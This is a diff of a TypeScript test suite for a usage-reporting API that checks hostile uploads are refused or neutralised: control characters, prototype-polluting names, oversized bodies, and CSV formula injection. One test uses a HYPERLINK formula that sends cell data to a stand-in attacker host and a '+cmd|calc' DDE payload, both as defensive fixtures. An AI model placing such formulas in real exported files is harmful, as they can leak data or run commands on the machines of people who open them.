@@ -31,7 +31,14 @@ function day(date: string, models: Breakdown[]) {
   };
 }
 
-const model = (modelName: string, n = 1): Breakdown => ({ modelName, inputTokens: 10 * n, outputTokens: 20 * n, cacheCreationTokens: 30 * n, cacheReadTokens: 40 * n, cost: 0.5 * n });
+const model = (modelName: string, n = 1): Breakdown => ({
+  modelName,
+  inputTokens: 10 * n,
+  outputTokens: 20 * n,
+  cacheCreationTokens: 30 * n,
+  cacheReadTokens: 40 * n,
+  cost: 0.5 * n,
+});
 const names = (prefix: string, count: number) => Array.from({ length: count }, (_, i) => `${prefix}-${String(i).padStart(3, '0')}`);
 
 describe('hostile inputs', () => {
@@ -50,7 +57,10 @@ describe('hostile inputs', () => {
   const counts = () => rowCounts((text) => db.query(text));
 
   /** Sends a request that must be refused with `status`, as a problem body, storing nothing. */
-  async function refused(send: () => PromiseLike<{ status: number; body: Record<string, unknown>; headers: Record<string, string>; text: string }>, status = 400) {
+  async function refused(
+    send: () => PromiseLike<{ status: number; body: Record<string, unknown>; headers: Record<string, string>; text: string }>,
+    status = 400,
+  ) {
     const before = await counts();
     const res = await send();
     expect(res.status).toBe(status);
@@ -87,7 +97,7 @@ describe('hostile inputs', () => {
 
     it('an upload with a day before 2000-01-01 is refused, naming the day', async () => {
       const report = fixture('claude-daily.json') as { daily: Array<{ date: string }> };
-      report.daily[1]!.date = '1999-12-31';
+      report.daily[1].date = '1999-12-31';
       const res = await refused(() => upload(t.http, alice.token, report));
       expect(res.body.errors).toEqual([expect.objectContaining({ path: 'daily[1].date', message: expect.stringContaining('before 2000-01-01') })]);
     });
@@ -97,7 +107,13 @@ describe('hostile inputs', () => {
     it('940 projects of 100 different models on one day are refused quickly, and /health/live answers meanwhile', async () => {
       const date = utcDay(new Date(), -3);
       const projects: Record<string, unknown[]> = {};
-      for (let p = 0; p < 940; p++) projects[`-home-alice-p${p}`] = [day(date, names(`p${p}`, 100).map((n) => model(n)))];
+      for (let p = 0; p < 940; p++)
+        projects[`-home-alice-p${p}`] = [
+          day(
+            date,
+            names(`p${p}`, 100).map((n) => model(n)),
+          ),
+        ];
       const body = JSON.stringify({ projects, totals: {} });
       expect(body.length).toBeGreaterThan(9_000_000);
 
@@ -146,8 +162,14 @@ describe('hostile inputs', () => {
   describe('item 4: the model cap holds on every format, names are printable, lists are paged', () => {
     it('a --by-agent day whose agents used 101 models between them is refused (500 were stored before)', async () => {
       const date = utcDay(new Date(), -1);
-      const claude = day(date, names('claude-x', 60).map((n) => model(n)));
-      const codex = day(date, names('gpt-x', 41).map((n) => model(n)));
+      const claude = day(
+        date,
+        names('claude-x', 60).map((n) => model(n)),
+      );
+      const codex = day(
+        date,
+        names('gpt-x', 41).map((n) => model(n)),
+      );
       const sum = (k: 'inputTokens' | 'outputTokens' | 'cacheCreationTokens' | 'cacheReadTokens' | 'totalTokens' | 'totalCost') => claude[k] + codex[k];
       const row = {
         period: date,
@@ -170,9 +192,11 @@ describe('hostile inputs', () => {
     const badNames = ['claude\u0000x', 'tab\there', 'new\nline', 'zero\u200bwidth', 'rtl\u202eoverride', ' padded', 'bell\u0007', '\ud800lone'];
     it.each(badNames.map((n) => [JSON.stringify(n), n]))('a model named %s is refused', async (_label, name) => {
       const report = fixture('claude-daily.json') as { daily: Array<{ modelBreakdowns: Array<{ modelName: string }> }> };
-      report.daily[0]!.modelBreakdowns[0]!.modelName = name;
+      report.daily[0].modelBreakdowns[0].modelName = name;
       const res = await refused(() => upload(t.http, alice.token, report));
-      expect(res.body.errors).toEqual([expect.objectContaining({ path: 'daily[0].modelBreakdowns[0].modelName', message: expect.stringContaining('printable') })]);
+      expect(res.body.errors).toEqual([
+        expect.objectContaining({ path: 'daily[0].modelBreakdowns[0].modelName', message: expect.stringContaining('printable') }),
+      ]);
     });
 
     it('model names in other scripts and with symbols are accepted', async () => {
@@ -201,17 +225,17 @@ describe('hostile inputs', () => {
       const user = await registerUser(t.http, 'hardening-models');
       const end = utcDay(new Date(), -5);
       const report = largeReport({ days: 2, models: 100, end });
-      report.daily[1]!.modelBreakdowns.forEach((m) => (m.modelName = `${m.modelName}-b`));
+      report.daily[1].modelBreakdowns.forEach((m) => (m.modelName = `${m.modelName}-b`));
       expect((await upload(t.http, user.token, report)).status).toBe(200);
 
-      const all = await t.http.get('/api/v1/models').query({ from: report.daily[0]!.date, to: end, limit: 500 });
+      const all = await t.http.get('/api/v1/models').query({ from: report.daily[0].date, to: end, limit: 500 });
       expect(all.status).toBe(200);
       expect(all.body.total).toBe(200);
       expect(all.body.models).toHaveLength(200);
-      const first = await t.http.get('/api/v1/models').query({ from: report.daily[0]!.date, to: end });
+      const first = await t.http.get('/api/v1/models').query({ from: report.daily[0].date, to: end });
       expect(first.body).toMatchObject({ total: 200, limit: 100, offset: 0 });
       expect(first.body.models).toHaveLength(100);
-      const second = await t.http.get('/api/v1/models').query({ from: report.daily[0]!.date, to: end, limit: 150, offset: 150 });
+      const second = await t.http.get('/api/v1/models').query({ from: report.daily[0].date, to: end, limit: 150, offset: 150 });
       expect(second.body.models.map((m: { model: string }) => m.model)).toEqual(all.body.models.slice(150).map((m: { model: string }) => m.model));
       expect((await t.http.get('/api/v1/models').query({ limit: 501 })).status).toBe(400);
 
@@ -225,7 +249,9 @@ describe('hostile inputs', () => {
   it('a user reports from at most 50 devices; known devices keep working', async () => {
     const user = await registerUser(t.http, 'hardening-devices');
     const report = fixture('claude-daily.json');
-    await Promise.all(Array.from({ length: 50 }, (_, i) => i).map(async (i) => expect((await upload(t.http, user.token, report, { device: `box-${i}` })).status).toBe(200)));
+    await Promise.all(
+      Array.from({ length: 50 }, (_, i) => i).map(async (i) => expect((await upload(t.http, user.token, report, { device: `box-${i}` })).status).toBe(200)),
+    );
     const res = await refused(() => upload(t.http, user.token, report, { device: 'box-50' }), 422);
     expect(res.body.detail).toContain('50 devices');
     expect((await upload(t.http, user.token, report, { device: 'box-7' })).status).toBe(200);
@@ -236,7 +262,9 @@ describe('hostile inputs', () => {
       const user = await registerUser(t.http, 'hardening-csv');
       const date = utcDay(new Date(), -40);
       const evil = '=HYPERLINK("http://evil.example/?x="&A1,"x")';
-      expect((await upload(t.http, user.token, { daily: [day(date, [model(evil), model('+cmd|calc'), model('@SUM(1+1)'), model('-2+3')])], totals: {} })).status).toBe(200);
+      expect(
+        (await upload(t.http, user.token, { daily: [day(date, [model(evil), model('+cmd|calc'), model('@SUM(1+1)'), model('-2+3')])], totals: {} })).status,
+      ).toBe(200);
       const csv = await t.http.get('/api/v1/models').query({ from: date, to: date, format: 'csv' });
       expect(csv.status).toBe(200);
       const lines = csv.text.trim().split('\r\n');
@@ -287,18 +315,21 @@ describe('hostile inputs', () => {
       expect(res.body.errors).toEqual([{ path: 'cursor', message: 'is not valid', in: 'query' }]);
     });
 
-    it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])('an agent named %s is stored with provider unknown, never a 500 or {}', async (agent) => {
-      const user = await registerUser(t.http, `hardening-agent-${agent.replace(/_/g, '')}`.toLowerCase());
-      const date = utcDay(new Date(), -2);
-      const inner = day(date, [model('mystery-model-7')]);
-      const { date: _date, ...totals } = inner;
-      const res = await upload(t.http, user.token, { daily: [{ period: date, agent: 'all', ...totals, agents: [{ agent, ...totals }] }], totals: {} });
-      expect(res.status).toBe(200);
-      const providers = await db.query<{ provider: string }>(`SELECT DISTINCT provider FROM model_day_stats WHERE model = 'mystery-model-7'`);
-      expect(providers).toEqual([{ provider: 'unknown' }]);
-      const listed = await t.http.get('/api/v1/providers').query({ limit: 500 });
-      expect(listed.body.providers.every((p: { provider: unknown }) => typeof p.provider === 'string' && p.provider !== '{}')).toBe(true);
-    });
+    it.each(['constructor', '__proto__', 'toString', 'hasOwnProperty'])(
+      'an agent named %s is stored with provider unknown, never a 500 or {}',
+      async (agent) => {
+        const user = await registerUser(t.http, `hardening-agent-${agent.replace(/_/g, '')}`.toLowerCase());
+        const date = utcDay(new Date(), -2);
+        const inner = day(date, [model('mystery-model-7')]);
+        const { date: _date, ...totals } = inner;
+        const res = await upload(t.http, user.token, { daily: [{ period: date, agent: 'all', ...totals, agents: [{ agent, ...totals }] }], totals: {} });
+        expect(res.status).toBe(200);
+        const providers = await db.query<{ provider: string }>(`SELECT DISTINCT provider FROM model_day_stats WHERE model = 'mystery-model-7'`);
+        expect(providers).toEqual([{ provider: 'unknown' }]);
+        const listed = await t.http.get('/api/v1/providers').query({ limit: 500 });
+        expect(listed.body.providers.every((p: { provider: unknown }) => typeof p.provider === 'string' && p.provider !== '{}')).toBe(true);
+      },
+    );
   });
 
   describe('item 12: reserved names and short answers to huge invalid bodies', () => {
@@ -308,7 +339,9 @@ describe('hostile inputs', () => {
     });
 
     it('a 400 KB invalid upload lists its first 100 field errors and counts them all', async () => {
-      const report = largeReport({ days: 60, models: 40, end: utcDay(new Date(), -1) }) as unknown as { daily: Array<{ modelBreakdowns: Array<Record<string, unknown>> }> };
+      const report = largeReport({ days: 60, models: 40, end: utcDay(new Date(), -1) }) as unknown as {
+        daily: Array<{ modelBreakdowns: Array<Record<string, unknown>> }>;
+      };
       for (const d of report.daily) for (const m of d.modelBreakdowns) m.inputTokens = 'many';
       const body = JSON.stringify(report);
       expect(body.length).toBeGreaterThan(200_000);
